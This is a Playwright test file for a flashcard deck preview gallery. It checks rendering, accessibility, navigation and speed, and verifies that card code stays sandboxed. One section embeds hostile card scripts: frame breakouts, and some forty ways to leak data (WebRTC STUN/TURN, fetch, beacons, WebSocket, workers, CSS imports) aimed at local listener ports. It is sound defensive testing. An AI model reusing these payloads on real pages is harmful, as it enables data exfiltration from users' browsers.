"""The gallery in a real browser: opened from disk as a file, and served while its source changes."""

from __future__ import annotations

import http.server
import json
import re
import select
import shutil
import socket
import threading
import time
from contextlib import ExitStack, contextmanager
from typing import TYPE_CHECKING

import pytest
from playwright.sync_api import expect

from deckgen.build import build
from deckgen.commands.diff.edition import of_build
from deckgen.commands.diff.sides import Side
from deckgen.commands.preview import cards, folder
from deckgen.commands.preview.since import Since
from tests.commands.galleries import generate
from tests.commands.test_preview import PIXEL, SECOND, free_port, serving, wait_for
from tests.conftest import ALLIANCE, CHAPTER, change, from_npm, run, write_project
from tests.faults import MP3, PNG
from tests.releases import FIRST, release
from tests.reviewers import answers

if TYPE_CHECKING:
    from collections.abc import Callable, Iterable, Iterator
    from pathlib import Path

    from playwright.sync_api import Browser

    from tests.commands.galleries import Gallery

LAST_GOOD = "Last good version; the source has errors now."
VIGNETTES = ALLIANCE / "source/2.3-therapeutic-alliance/7-vignettes.yaml"

VIGNETTE = """\
vignettes:
  - id: quiet
    scenario: |
      He says less every week.
    question: |
      What comes **next**?
    options:
      - text: |
          Repair the bond with him
        correct: true
        why: |
          The weaker bond ends therapy.
      - text: |
          Set out the rules
        why: |
          It blames him alone.
      - text: |
          See her by herself
        why: |
          It widens the gap.
"""
PLAIN_KIND = """\
title: Plain
section: plains
type: normal
keys:
  text:
    type: markdown
    required: true
    about: What it says.
    example: |
      Something.
fields:
  - {name: Note ID, id: 1514237788180689, from: id}
  - {name: Text, id: 3043838278382454, from: text}
cards:
  - {name: Plain, id: 4882694563571589, face: plain}
"""
PLAIN = {
    "templates/plain/kind.yaml": PLAIN_KIND,
    "templates/plain/plain.back.html.j2": "<div class=back>{{Text}}</div>",
    "source/one.yaml": "plains:\n  - id: one\n    text: |\n      Some words.\n"
    "  - id: two\n    text: |\n      Others.\n",
}


def test_a_card_shows_front_and_back_beside_where_it_is_from(
    preview: Callable[..., Path], show: Callable[..., Gallery]
) -> None:
    """From disk, without a server: both sides, the note's id, kind, tags, place, and Anki's own names."""
    gallery = show(preview({"source/one.yaml": "tags: [early]\n" + SECOND}))
    front, back = (gallery.side(side, "one, Cloze 1") for side in ("Front", "Back"))
    expect(front.locator("#qa .cloze")).to_have_text("[...]")
    expect(back.locator("#qa .cloze")).to_have_text("joining")
    expect(back.locator("#qa")).to_contain_text("Nobody follows someone")
    assert front.locator("html").get_attribute("class") == "linux chrome"
    assert front.locator("body").get_attribute("class") == "card card1"
    assert gallery.side("Front", "two, Cloze 3").locator("body").get_attribute("class") == "card card3"
    card = gallery.card("one, Cloze 1")
    for text in ("one", "Takeaway", "early", "source/one.yaml:3"):
        expect(card.get_by_text(text, exact=True).first).to_be_visible()
    assert gallery.count() == "3 cards"


def test_a_frame_is_as_high_as_its_card(own: Path, show: Callable[..., Gallery]) -> None:
    """Nothing of a card is cut off, and nothing of it needs scrolling."""
    gallery = show(own, "#quiet-husband")
    back = gallery.side("Back", "quiet-husband, Answer")
    expect(back.locator(".foot")).to_be_visible()
    gallery.until(
        "(() => { const s = document.querySelector('iframe[title^=\"Back of quiet-husband\"]').parentElement;"
        " return s.clientHeight > 900 })()"
    )
    end = back.locator(".foot").evaluate("e => e.getBoundingClientRect().bottom")
    room = gallery.page.locator('iframe[title="Back of quiet-husband, Answer"]').locator("..")
    assert 0 <= room.evaluate("e => e.clientHeight") - end < 60


@pytest.mark.parametrize("way", ["mouse", "touch", "keyboard"])
def test_a_vignette_answered_on_its_front_is_answered_on_its_back(
    preview: Callable[..., Path], show: Callable[..., Gallery], way: str
) -> None:
    """The back has the front's letters, and the choice as soon as it is made."""
    gallery = show(preview({"source/one.yaml": VIGNETTE}), has_touch=way == "touch")
    front, back = (gallery.side(side, "quiet, Answer") for side in ("Front", "Back"))
    expect(front.locator(".choice")).to_have_count(3)
    order = [text.strip() for text in front.locator(".choice").all_inner_texts()]
    wanted = front.locator(".choice", has_text="Set out the rules")
    if way == "mouse":
        wanted.click()
    elif way == "touch":
        wanted.tap()
    else:
        front.locator(".choice").first.focus()
        for _ in range(3):
            if "Set out" in front.locator("*:focus").inner_text():
                break
            gallery.page.keyboard.press("ArrowDown")
        else:
            pytest.fail("the arrows do not reach every option")
        if wanted.get_attribute("aria-checked") != "true":
            gallery.page.keyboard.press("Space")
    expect(wanted).to_have_attribute("aria-checked", "true")
    expect(back.locator(".chosen .option")).to_have_text("Set out the rules")
    assert [text.rsplit("\n", 1)[-1] for text in order] == answers(back)


def test_the_last_of_many_choices_is_the_one_on_the_back(
    preview: Callable[..., Path], show: Callable[..., Gallery]
) -> None:
    """However quickly a choice is changed, while the back is drawn for the one before."""
    gallery = show(preview({"source/one.yaml": VIGNETTE}))
    front, back = (gallery.side(side, "quiet, Answer") for side in ("Front", "Back"))
    expect(front.locator(".choice")).to_have_count(3)
    for pause in range(14, 46):
        chosen = front.locator("html").evaluate(
            """async (html, pause) => {
                const choices = [...html.querySelectorAll(".choice")];
                for (let turn = 0; turn < 3; turn += 1) {
                    choices[turn % 3].click();
                    await new Promise(resolve => setTimeout(resolve, pause));
                }
                return choices[2].innerText.trim().split("\\n").pop();
            }""",
            pause,
        )
        expect(back.locator(".chosen .option")).to_have_text(chosen)


def test_showing_anew_asks_again(preview: Callable[..., Path], show: Callable[..., Gallery]) -> None:
    """The front is drawn as at the next review: nothing is chosen, and the back agrees."""
    gallery = show(preview({"source/one.yaml": VIGNETTE}))
    front, back = (gallery.side(side, "quiet, Answer") for side in ("Front", "Back"))
    front.locator(".choice").first.click()
    expect(back.locator(".chosen")).to_have_count(1)
    gallery.page.get_by_role("button", name="Reset").click()
    expect(back.locator(".chosen")).to_have_count(0)
    expect(front.locator("[aria-checked=true]")).to_have_count(0)


def test_one_side_at_a_time_turns_in_one_page(
    preview: Callable[..., Path], show: Callable[..., Gallery]
) -> None:
    """The front's variables are there on the back, as in Anki on a computer; keys turn the card."""
    deck = preview(
        PLAIN
        | {
            "templates/plain/plain.front.html.j2": "{{Text}}"
            "<script>window.seen = (window.seen || 0) + 1</script>",
            "templates/plain/plain.back.html.j2": "<b>{{Text}}</b><i></i>"
            "<script>document.querySelector('i').textContent = 'seen ' + window.seen</script>",
        }
    )
    gallery = show(deck, "#?single=1")
    card = gallery.side("Card", "one, Plain")
    expect(card.locator("#qa")).to_contain_text("Some words.")
    expect(card.locator("b")).to_have_count(0)
    gallery.page.keyboard.press("Space")
    expect(card.locator("i")).to_have_text("seen 1")
    gallery.card("one, Plain").get_by_role("button", name="Show front").click()
    expect(card.locator("b")).to_have_count(0)
    card.locator("body").click()
    gallery.page.keyboard.press("Enter")
    expect(card.locator("i")).to_have_text("seen 2")


def test_night_and_phone_reach_the_cards(own: Path, show: Callable[..., Gallery]) -> None:
    """The switches set Anki's names and the width, without drawing the card anew."""
    gallery = show(own, "#quiet-husband")
    front = gallery.side("Front", "quiet-husband, Answer")
    front.locator(".choice").first.click()
    gallery.page.get_by_role("button", name="Night").click()
    expect(front.locator("body")).to_have_class("card card1 nightMode night_mode")
    expect(front.locator("html")).to_have_class("linux chrome night-mode")
    red, *_ = front.locator("body").evaluate(
        "e => getComputedStyle(e).backgroundColor.match(/\\d+/g).map(Number)"
    )
    assert red < 60
    gallery.page.keyboard.press("p")
    expect(front.locator("html")).to_have_class("android mobile chrome night-mode")
    assert front.locator("html").evaluate("() => innerWidth") == 360
    expect(front.locator("[aria-checked=true]")).to_have_count(1)
    assert gallery.page.url.endswith("?night=1&phone=1")


def test_right_to_left_turns_the_card(own: Path, show: Callable[..., Gallery]) -> None:
    """The whole card is turned, and turned back."""
    gallery = show(own, "#quiet-husband?rtl=1")
    face = gallery.side("Front", "quiet-husband, Answer").locator(".face")
    expect(face).to_have_css("direction", "rtl")
    gallery.page.keyboard.press("r")
    expect(face).to_have_css("direction", "ltr")


def test_filters_are_in_the_address(own: Path, show: Callable[..., Gallery]) -> None:
    """Kind, chapter, tag and text leave some cards, and the address shows the same elsewhere."""
    gallery = show(own)
    whole = gallery.page.locator("#count").inner_text()
    vignettes = len(re.findall(r"(?m)^  - id: ", VIGNETTES.read_text("utf-8")))
    gallery.page.get_by_label("Kind").select_option("Vignette")
    expect(gallery.page.locator("#count")).to_have_text(f"{vignettes} of {whole}")
    gallery.page.keyboard.press("/")
    gallery.page.get_by_label("Search").fill("quarrels MONEY canceled")
    expect(gallery.page.locator("#count")).to_have_text(f"1 of {whole}")
    assert gallery.shown() == ["quiet-husband, Answer"]
    gallery.until("location.hash.includes('q=quarrels')")
    again = show(gallery.page.url)
    assert again.shown() == ["quiet-husband, Answer"]
    gallery.page.get_by_label("Search").fill("nowhere to be found")
    expect(gallery.page.get_by_text("No cards match.")).to_be_visible()


def test_only_cards_with_diagnostics(preview: Callable[..., Path], show: Callable[..., Gallery]) -> None:
    """The filter leaves the card that something is to be said of, which tells what and where."""
    slip = SECOND.replace("c3::", "c2::") + "    why: |\n      Some pull more than others.\n"
    gallery = show(preview({"source/one.yaml": slip.replace("change comes", "change comes comes")}))
    gallery.page.get_by_label("Only cards with problems").check()
    expect(gallery.page.locator("#count")).to_have_text("1 of 3 cards")
    card = gallery.card("one, Cloze 1")
    expect(card.get_by_text("warning[doubled-word]")).to_be_visible()
    expect(card.locator(".place")).to_contain_text("source/one.yaml:4:")


def test_what_concerns_no_card_stands_on_top(
    preview: Callable[..., Path], show: Callable[..., Gallery]
) -> None:
    """An error in a note that cannot be read is told before the cards that can."""
    broken = SECOND + "  - id: three\n    txt: |\n      A {{c1::slip}}.\n"
    gallery = show(preview({"source/one.yaml": broken}))
    expect(gallery.page.locator("#found")).to_contain_text("error[unknown-key]")
    expect(gallery.page.locator("#found")).to_contain_text("Hint: did you mean text?")
    assert gallery.count() == "3 cards"


def test_a_link_leads_to_its_card(own: Path, show: Callable[..., Gallery]) -> None:
    """The address of a card, also of a note's second one, opens the page there, and it stays there."""
    gallery = show(own, "#multidirected-partiality/2")
    name = str(gallery.until("document.querySelector('article:not(.shell)')?.ariaLabel"))
    assert name
    expect(gallery.side("Back", "multidirected-partiality, Recognize").locator("#qa")).to_be_visible()
    gallery.page.wait_for_timeout(500)
    top = gallery.card("multidirected-partiality, Recognize").evaluate("e => e.getBoundingClientRect().top")
    bar = gallery.page.locator(".bar").evaluate("e => e.getBoundingClientRect().bottom")
    assert abs(top - bar) < 40
    gallery.page.evaluate("location.hash = '#no-such-card'")
    expect(gallery.page.get_by_text("There is no card no-such-card.")).to_be_visible()


def test_keys_go_from_card_to_card(preview: Callable[..., Path], show: Callable[..., Gallery]) -> None:
    """By j and k, from the page and from within a card; ? opens the help, Escape closes it."""
    gallery = show(preview({"source/one.yaml": SECOND}))
    gallery.page.keyboard.press("j")
    gallery.until("location.hash === '#one'")
    gallery.page.keyboard.press("j")
    gallery.page.keyboard.press("ArrowRight")
    gallery.until("location.hash === '#two/3'")
    expect(gallery.card("two, Cloze 3").get_by_role("link")).to_be_focused()
    gallery.page.keyboard.press("k")
    gallery.until("location.hash === '#two'")
    gallery.side("Front", "one, Cloze 1").locator("body").click()
    gallery.page.keyboard.press("j")
    gallery.until("location.hash === '#two'")
    gallery.page.keyboard.press("?")
    expect(gallery.page.get_by_role("dialog", name="About this preview")).to_be_visible()
    gallery.page.keyboard.press("Escape")
    expect(gallery.page.get_by_role("dialog")).to_have_count(0)


def test_everything_is_reached_with_tab(preview: Callable[..., Path], show: Callable[..., Gallery]) -> None:
    """From the top: the way to the cards, switches, filters, the card's link, its place and its frames."""
    gallery = show(preview())
    expect(gallery.side("Back", "one, Cloze 1").locator("#qa")).to_be_visible()
    reached = []
    for _ in range(20):
        gallery.page.keyboard.press("Tab")
        reached.append(
            gallery.page.evaluate(
                "document.activeElement.title || document.activeElement.textContent.trim()"
                " || document.activeElement.id"
            )
        )
    for name in ("To the cards", "Night", "Print", "Help", "q", "faulty", "one", "Reset"):
        assert name in reached
    assert "Copy the file and line" in reached


@pytest.mark.parametrize("fragment", ["", "#?night=1", "#?single=1&phone=1", "#?q=change&night=1"])
@pytest.mark.parametrize("width", [320, 1200])
def test_axe_finds_nothing_in_the_page(
    preview: Callable[..., Path], show: Callable[..., Gallery], fragment: str, width: int
) -> None:
    """Contrast, names, roles, also of diagnostics and help; nothing is wider than the window."""
    broken = (
        SECOND.replace("change comes", "change comes comes") + "  - id: three\n    txt: |\n      A slip.\n"
    )
    axe = from_npm("axe-core/axe.min.js").read_text("utf-8")
    gallery = show(
        preview({"source/one.yaml": broken}),
        fragment,
        bypass_csp=True,
        viewport={"width": width, "height": 900},
    )
    expect(gallery.page.get_by_text("warning[doubled-word]")).to_be_visible()
    gallery.page.evaluate(axe)
    for opened in (False, True):
        if opened:
            gallery.page.get_by_role("button", name="Help").click()
        found = gallery.page.evaluate("axe.run(document, {iframes: false})")
        told = [(each["id"], each["nodes"][0]["html"]) for each in found["violations"]]
        assert not told
    assert gallery.page.evaluate("document.documentElement.scrollWidth") <= width


# Cards that mean harm

ESCAPES = """\
</script><script>parent.document.title = "taken"</script><img src=x onerror="top.document.title = 'taken'">
<script>
var tries = ["parent.document.body.innerHTML = ''", "top.location = 'about:blank'", "localStorage.x.y",
  "alert(1)",
  "window.open('about:blank')", "parent.deckgen.cards = null", "fetch('http://127.0.0.1:PORT/fetch')",
  "new Image().src = 'http://127.0.0.1:PORT/image'", "location = 'http://127.0.0.1:PORT/gone'",
  "document.head.innerHTML += '<link rel=stylesheet href=http://127.0.0.1:PORT/style>'"];
tries.forEach(function (code) { try { (0, Function)(code)(); } catch (error) { } });
tries.forEach(function (code) {
  var script = document.createElement("script");
  script.textContent = code;
  document.body.append(script);
});
setInterval(function () {
  parent.postMessage({ height: 1e9, key: "n", link: "javascript:alert(1)", kept: 7 }, "*");
}, 50);
</script>
"""


@contextmanager
def listener() -> Iterator[tuple[int, list[str]]]:
    """A server that notes what it is asked for."""
    asked: list[str] = []

    class Notes(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            asked.append(self.path)
            self.send_error(404)

        def log_message(self, *_: object) -> None:
            pass

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Notes)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield server.server_port, asked
    server.shutdown()
    server.server_close()


def test_a_card_with_an_odd_file_name_is_shown(own: Path, show: Callable[..., Gallery]) -> None:
    """Other programs' packages can name a file as no address does; the card and the picture are there."""
    gallery = show(own)
    gallery.page.evaluate("""() => {
      const holder = document.createElement("div");
      document.body.append(holder);
      const nothing = () => {};
      const screen = new deckgen.Screen(holder, "Odd", { shown: nothing, fault: nothing, kept: nothing });
      screen.look({ height: 400 });
      const html = '<img src="%ff.png"><p>After.</p>';
      const media = new Map([["%ff.png", new Blob(["x"])]]);
      screen.show({ css: "", html, media, kept: { session: {}, local: {} } });
    }""")
    card = gallery.page.frame_locator('iframe[title="Odd"]')
    expect(card.locator("#qa p")).to_have_text("After.")
    assert str(card.locator("#qa img").get_attribute("src")).startswith("blob:")


def test_a_card_s_code_stays_in_its_frame(preview: Callable[..., Path], show: Callable[..., Gallery]) -> None:
    """It changes nothing around it, reaches no network, and the next card is as it should be."""
    with listener() as (port, asked):
        front = "{{Text}}" + ESCAPES.replace("PORT", str(port))
        gallery = show(preview(PLAIN | {"templates/plain/plain.front.html.j2": front}))
        gallery.page.wait_for_timeout(1500)
        assert not asked
    assert gallery.page.title() == "Sample: preview"
    # the code of the card before keeps the browser busy, and can push this one far down
    gallery.card("two, Plain").scroll_into_view_if_needed()
    expect(gallery.side("Back", "two, Plain").locator(".back")).to_have_text("Others.", timeout=20_000)
    heights = [each.evaluate("e => e.clientHeight") for each in gallery.page.locator(".screen").all()]
    assert max(heights) <= 6000
    assert len(gallery.page.context.pages) == 1
    expect(gallery.card("one, Plain").get_by_text("Error in the card’s code").first).to_be_visible()


PRELUDE = """\
function call(Connection) {
  window.made = new Connection({ iceServers: [{ urls: 'stun:127.0.0.1:U_PORT' },
    { urls: 'turn:127.0.0.1:T_PORT?transport=tcp', username: 'x', credential: 'x' }] });
  made.createDataChannel('x');
  made.createOffer().then(function (offer) { return made.setLocalDescription(offer); });
}
var place = document.getElementById('place');
var code = call + ';call(RTCPeerConnection)';
var script = '<script>' + code + '<' + '/script>';
var inner = '<iframe srcdoc="' + script + '"></iframe>';
var shadow = '<p><template shadowrootmode=closed>' + inner + '</template></p>';
"""
WAYS_OUT = {
    "rtc": "call(RTCPeerConnection)",
    "old-name": "call(webkitRTCPeerConnection)",
    "inner": "place.innerHTML = inner",
    "handler": "place.innerHTML ="
    " '<iframe srcdoc=\"<img src=x onerror=&quot;' + code + '&quot;>\"></iframe>'",
    "address": "var made = document.createElement('iframe'); made.src = 'javascript:`' + script + '`';"
    " document.documentElement.append(made)",
    "shadow": "place.attachShadow({ mode: 'closed' }).innerHTML = inner",
    "copy": "var host = document.createElement('p'); place.append(host);"
    " host.attachShadow({ mode: 'open', clonable: true }).innerHTML = inner;"
    " place.append(host.cloneNode(true))",
    "unsafe": "place.setHTMLUnsafe(shadow)",
    "write": "document.write(shadow)",
    "again": "place.innerHTML = inner; var frame = place.firstChild;"
    " setInterval(function () { if (!frame.isConnected) { place.append(frame); } }, 1)",
    "busy": "place.innerHTML = inner; var end = Date.now() + 300; while (Date.now() < end) { }",
    "replaced": "Element.prototype.remove = Document.prototype.querySelector = function () { };"
    " MutationObserver.prototype.observe = Function.prototype.call = null; place.innerHTML = inner",
    "transport": "new WebTransport('https://127.0.0.1:U_PORT/')",
    "window": "var made = document.createElement('iframe'); document.body.append(made);"
    " call(made.contentWindow.RTCPeerConnection)",
    "worker": "new Worker(URL.createObjectURL(new Blob(['fetch(\"http://127.0.0.1:T_PORT/\")'])))",
    "shared-worker": "new SharedWorker('data:text/javascript,fetch(\"http://127.0.0.1:T_PORT/\")')",
    "module": "import('http://127.0.0.1:T_PORT/x.js')",
    "fetch": "fetch('http://127.0.0.1:T_PORT/')",
    "later": "fetchLater('http://127.0.0.1:T_PORT/', { activateAfter: 0 })",
    "beacon": "navigator.sendBeacon('http://127.0.0.1:T_PORT/', 'x')",
    "socket": "new WebSocket('ws://127.0.0.1:T_PORT/')",
    "events": "new EventSource('http://127.0.0.1:T_PORT/')",
    "image": "new Image().src = 'http://127.0.0.1:T_PORT/'",
    "style": 'place.innerHTML = \'<style>@import "http://127.0.0.1:T_PORT/";'
    " * { background: url(http://127.0.0.1:T_PORT/) }</style>'",
    "video": "place.innerHTML = '<video autoplay src=http://127.0.0.1:T_PORT/></video>'",
    "object": "place.innerHTML = '<object data=http://127.0.0.1:T_PORT/></object>'",
    "form": "var made = document.createElement('form'); made.action = 'http://127.0.0.1:T_PORT/';"
    " place.append(made); made.submit()",
    "window-opened": "window.open('http://127.0.0.1:T_PORT/')",
    "whole-page": "top.location = 'http://127.0.0.1:T_PORT/'",
    "ping": "place.innerHTML = '<a href=#x ping=http://127.0.0.1:T_PORT/>x</a>'; place.firstChild.click()",
    "speculation": "var made = document.createElement('script'); made.type = 'speculationrules';"
    " made.textContent = JSON.stringify({ prefetch: [{ source: 'list', eagerness: 'immediate',"
    " urls: ['http://127.0.0.1:T_PORT/'] }] }); document.head.append(made)",
}
CONNECTS = {
    "location": "location = 'http://127.0.0.1:T_PORT/'",
    "link-clicked": "var made = document.createElement('a'); made.href = 'http://127.0.0.1:T_PORT/';"
    " made.click()",
    "download": "var made = document.createElement('a'); made.href = 'http://127.0.0.1:T_PORT/';"
    " made.download = 'x'; made.click()",
    "prefetch": "place.innerHTML = '<link rel=prefetch href=http://127.0.0.1:T_PORT/>'",
    "dns": "place.innerHTML = '<link rel=dns-prefetch href=http://127.0.0.1:T_PORT/>'",
    "frame": "place.innerHTML = '<iframe src=http://127.0.0.1:T_PORT/></iframe>'",
    "link": "place.innerHTML = '<link rel=preconnect href=http://127.0.0.1:T_PORT/>'",
    "refresh": "place.innerHTML = '<meta http-equiv=refresh content=\"0;url=http://127.0.0.1:T_PORT/\">'",
}
"""By these a browser opens a connection, and sends nothing, before it finds that the address is refused."""
RUNS_ITS_TEXT = """\
<div id=code hidden>{{Text}}</div><div id=place></div><script>
var own = document.createElement("script");
own.textContent = document.getElementById("code").textContent;
document.body.append(own);
</script>
"""


@contextmanager
def listening(ways: Iterable[str]) -> Iterator[tuple[dict[str, tuple[int, int]], set[str]]]:
    """For each of some ways a TCP and a UDP port, and those ways by which something has come."""
    heard: set[str] = set()
    with ExitStack() as opened:

        def listen(way: str, kind: socket.SocketKind) -> int:
            """A port on which whatever comes is noted."""
            port = opened.enter_context(socket.socket(type=kind))
            port.bind(("127.0.0.1", 0))
            if kind == socket.SOCK_STREAM:
                port.listen()

            def note() -> None:
                readable, _, _ = select.select([port], [], [], 60)
                if readable and not over.is_set():
                    heard.add(way)

            threading.Thread(target=note, daemon=True).start()
            number: int = port.getsockname()[1]
            return number

        over = threading.Event()
        kinds = (socket.SOCK_STREAM, socket.SOCK_DGRAM)
        yield {way: (listen(way, kinds[0]), listen(way, kinds[1])) for way in ways}, heard
        over.set()


def hostile(ways: dict[str, str], ports: dict[str, tuple[int, int]]) -> dict[str, str | bytes]:
    """A deck each of whose notes runs one of some pieces of code."""
    notes = "plains:\n"
    for name, code in ways.items():
        tcp, udp = map(str, ports[name])
        text = (PRELUDE + code).replace("T_PORT", tcp).replace("U_PORT", udp).replace("\n", " ")
        notes += f"  - id: {name}\n    text: {json.dumps(text)}\n"
    return {
        "templates/plain/kind.yaml": PLAIN_KIND.replace("markdown", "text"),
        "templates/plain/plain.front.html.j2": RUNS_ITS_TEXT,
        "templates/plain/plain.back.html.j2": "{{Note ID}}",
        "source/one.yaml": notes,
    }


TALL = {"width": 1200, "height": 12_000}
"""A window in which all these cards are drawn at once."""


def test_what_an_open_frame_sends_is_heard(browser: Browser, tmp_path: Path) -> None:
    """So the silence of the tests below means something: the same policy alone does not stop WebRTC."""
    policy = re.search(r"<meta http-equiv[^>]*>", (folder.SHARED / "frame.html").read_text("utf-8"))
    assert policy
    with listening(["open"]) as (ports, heard), browser.new_context() as context:
        tcp, udp = map(str, ports["open"])
        code = (PRELUDE + WAYS_OUT["rtc"]).replace("T_PORT", tcp).replace("U_PORT", udp)
        (tmp_path / "frame.html").write_text(f"{policy[0]}<body><script>{code}</script>", "utf-8")
        (tmp_path / "page.html").write_text("<iframe sandbox=allow-scripts src=frame.html></iframe>", "utf-8")
        page = context.new_page()
        page.goto((tmp_path / "page.html").as_uri())
        wait_for(lambda: page.evaluate("1") and heard == {"open"})


def test_no_packet_leaves_a_card_from_disk(
    preview: Callable[..., Path], show: Callable[..., Gallery]
) -> None:
    """WebRTC's constructors are gone, and no inner document has them again; the policy refuses the rest."""
    with listening(WAYS_OUT) as (ports, heard):
        gallery = show(preview(hostile(WAYS_OUT, ports)), viewport=TALL)
        expect(gallery.page.locator("iframe")).to_have_count(2 * len(WAYS_OUT), timeout=20_000)
        gallery.page.wait_for_timeout(4000)
        assert not heard


def test_nothing_at_all_leaves_a_card_that_is_served(
    project: Callable[..., Path], show: Callable[..., Gallery]
) -> None:
    """The server has the browser refuse every connection of a card, also one that would carry nothing."""
    ways = WAYS_OUT | CONNECTS
    with listening(ways) as (ports, heard):
        port = free_port()
        with serving(project(hostile(ways, ports)), port):
            gallery = show(f"http://127.0.0.1:{port}/", viewport=TALL)
            expect(gallery.page.locator("iframe")).to_have_count(2 * len(ways), timeout=20_000)
            gallery.page.wait_for_timeout(4000)
            assert not heard


def test_what_fails_in_a_card_is_told_beside_it(
    preview: Callable[..., Path], show: Callable[..., Gallery]
) -> None:
    """An exception in a card's script is read beside the card."""
    gallery = show(
        preview(PLAIN | {"templates/plain/plain.front.html.j2": "{{Text}}<script>nothing.there()</script>"})
    )
    expect(gallery.card("one, Plain").get_by_text("nothing is not defined").first).to_be_visible()
    expect(gallery.side("Front", "one, Plain").locator("#qa")).to_contain_text("Some words.")


def test_links_open_outside_after_a_click_on_the_page(
    preview: Callable[..., Path], show: Callable[..., Gallery]
) -> None:
    """A link in a card opens nothing by itself; the page offers it."""
    link = "[a page](https://example.org/x)"
    gallery = show(
        preview(
            PLAIN
            | {
                "templates/plain/plain.front.html.j2": "{{Text}}",
                "source/one.yaml": f"plains:\n  - id: one\n    text: |\n      See {link}.\n",
            }
        )
    )
    gallery.side("Front", "one, Plain").get_by_role("link").click()
    offered = gallery.page.locator("#toast a")
    expect(offered).to_have_attribute("href", "https://example.org/x")
    expect(offered).to_have_attribute("rel", "noopener noreferrer")
    expect(gallery.side("Front", "one, Plain").locator("#qa")).to_contain_text("See a page.")


def test_images_and_sounds_are_shown_from_disk(
    preview: Callable[..., Path], show: Callable[..., Gallery]
) -> None:
    """A picture of the deck is there in its frame, which itself may read no file."""
    gallery = show(preview(PLAIN | {
        "templates/plain/plain.front.html.j2": "{{Text}}",
        "source/dot.png": PIXEL,
        "source/a tone.mp3": MP3,
        "source/one.yaml": "plains:\n  - id: one\n    text: |\n"
        "      ![A dot](dot.png) [sound:a tone.mp3]\n",
    }))  # fmt: skip
    picture = gallery.side("Back", "one, Plain").locator("img")
    expect(picture).to_have_js_property("naturalWidth", 1)
    for name in ("img", "audio"):
        found = gallery.side("Back", "one, Plain").locator(name)
        assert str(found.get_attribute("src")).startswith("blob:"), name


def test_files_of_faces_and_styles_are_shown_from_disk(
    preview: Callable[..., Path], show: Callable[..., Gallery]
) -> None:
    """A seal that a face shows, and one that a style lays behind the card, are there; on paper as well."""
    gallery = show(preview(PLAIN | {
        "templates/plain/plain.front.html.j2": '<img src="[[ media("seal.png") ]]" alt="A seal">{{Text}}',
        "templates/plain/style.css.j2": "#qa { background: url('[[ media(\"ground.png\") ]]'); }",
        "templates/plain/seal.png": PIXEL,
        "templates/plain/ground.png": PIXEL + b"another",
        "source/one.yaml": "plains:\n  - id: one\n    text: |\n      Text.\n",
    }))  # fmt: skip
    front = gallery.side("Front", "one, Plain")
    expect(front.locator("img")).to_have_js_property("naturalWidth", 1)
    ground = "getComputedStyle(document.querySelector('#qa')).backgroundImage"
    assert front.locator("#qa").evaluate(f"() => {ground}").startswith('url("blob:')
    gallery.page.evaluate("() => { window.print = () => { window.printing = true; }; }")
    gallery.page.get_by_role("button", name="Print").click()
    assert gallery.until("window.printing")
    paper = gallery.page.locator("#paper .front-side").first
    assert paper.locator("img").evaluate("e => e.naturalWidth") == 1
    shown = paper.locator("#qa").evaluate("e => getComputedStyle(e).backgroundImage")
    assert shown.startswith('url("blob:')


def test_a_missing_picture_and_a_huge_text_break_nothing(
    preview: Callable[..., Path], show: Callable[..., Gallery]
) -> None:
    """A picture that is not there is an error on the page; five megabytes of text stay within their frame."""
    long = "word " * 1_000_000
    text = "plains:\n  - id: one\n    text: |\n      ![A dot](dot.png)\n"
    text += f"  - id: two\n    text: |\n      {long}\n"
    text += "  - id: three\n    text: |\n      Short.\n"
    gallery = show(
        preview(PLAIN | {"templates/plain/plain.front.html.j2": "Front {{Text}}", "source/one.yaml": text})
    )
    expect(gallery.page.get_by_text("error[missing-media]")).to_be_visible()
    gallery.page.evaluate("location.hash = '#three'")
    expect(gallery.side("Back", "three, Plain").locator(".back")).to_have_text("Short.", timeout=20_000)
    heights = [each.evaluate("e => e.clientHeight") for each in gallery.page.locator(".screen").all()]
    assert max(heights) <= 6000


# Many cards


@pytest.fixture(scope="module")
def many(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The preview of ten thousand notes."""
    top = tmp_path_factory.mktemp("many")
    generate(top, 10_000)
    (top / "build").mkdir()
    folder.write(cards.gallery(build(top)), top / "build/preview")
    return top


def test_ten_thousand_notes_stay_quick(many: Path, show: Callable[..., Gallery]) -> None:
    """The first card is there soon, few frames are, scrolling does not stall, and a link leads to the end.

    The bounds are some five times what was measured on two busy cores: 0.8 seconds to the first
    card, 0.1 seconds for the longest work while it scrolls.
    """
    started = time.monotonic()
    gallery = show(many)
    expect(gallery.side("Front", "takeaway-0, Cloze 1").locator("#qa")).to_contain_text("[...]")
    assert time.monotonic() - started < 4
    assert gallery.count() == "15,000 cards"
    gallery.page.evaluate(
        "window.longest = 0; new PerformanceObserver(list => list.getEntries().forEach("
        "each => { longest = Math.max(longest, each.duration); })).observe({ type: 'longtask' })"
    )
    gallery.page.mouse.move(600, 500)
    for _ in range(30):
        gallery.page.mouse.wheel(0, 500)
        gallery.page.wait_for_timeout(20)
    assert gallery.page.evaluate("longest") < 500
    assert gallery.page.locator("iframe").count() < 30
    assert gallery.page.locator("article").count() < 500
    gallery.page.get_by_label("Search").fill("grandmother letter")
    expect(gallery.page.locator("#count")).to_contain_text(" of 15,000 cards")
    gallery.page.get_by_label("Search").fill("")
    expect(gallery.page.locator("#count")).to_have_text("15,000 cards")
    started = time.monotonic()
    gallery.page.evaluate("location.hash = '#definition-9870'")
    expect(gallery.side("Back", "definition-9870, Recall").locator(".face")).to_be_visible()
    assert time.monotonic() - started < 4
    assert gallery.page.evaluate("scrollY > document.documentElement.scrollHeight * .9")


# Since a release


def since(deck: Path, *arguments: str) -> Path:
    """Write the preview of what changed in a deck since a release."""
    assert run("preview", "--since", *arguments, cwd=deck).returncode == 0
    return deck


@pytest.fixture
def changed(project: Callable[..., Path]) -> Path:
    """A deck with changed, new and retired notes since its release, and the preview of that."""
    third = "  - id: three\n    text: |\n      The {{c1::third}} of ![dots](dot.png) them.\n"
    deck = project({"source/one.yaml": SECOND + third, "source/dot.png": PIXEL, "source/two.yaml": VIGNETTE})
    release(deck, "1.0.0", FIRST)
    fourth = "  - id: four\n    text: |\n      The {{c1::fourth}} of them.\n"
    text = SECOND.replace("joining", "meeting") + "    retired: It was wrong.\n" + third + fourth
    vignette = VIGNETTE.replace("What comes **next**?", "What is **next**?")
    change(deck, {"source/one.yaml": text, "source/dot.png": PNG, "source/two.yaml": vignette})
    return since(deck)


